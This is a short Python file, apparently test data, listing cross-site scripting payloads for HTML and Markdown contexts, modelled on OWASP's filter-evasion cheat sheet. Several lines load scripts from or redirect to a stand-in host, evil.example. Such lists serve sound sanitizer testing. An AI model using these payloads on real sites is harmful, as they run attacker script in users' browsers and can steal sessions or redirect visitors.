"""What people write who want scripts of theirs to run in the pages of others."""

# Ways to have a script run, of the kinds that OWASP's cheat sheet on evading filters lists.
XSS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)", "&#106;avascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<style>@import '//evil.example'</style>", "<math><mi xlink:href='javascript:alert(1)'>x",
    "{{constructor.constructor('alert(1)')()}}", "{{{csrf}}}", "{{>head}}", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "<base href=//evil.example>", "<form action=//evil.example><input>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
IN_MARKDOWN = [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#10;script:alert(1))",
    "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1))", "[x](data:text/html,x)",
    "![x](javascript:alert(1))", "![x](x\" onerror=\"alert(1))", "![x\" onerror=\"alert(1)](https://e.example/a.png)",
    "[x](https://e.example \"t\" onclick=\"alert(1)\")", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]",
    "```\"><script>alert(1)</script>\nx\n```", "``` x\" onclick=\"alert(1)\ny\n```", "# <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|-|\n| x |", "www.example.com\"onclick=\"alert(1)", "<a href=\"x\" onclick=alert(1)>x</a>",
]
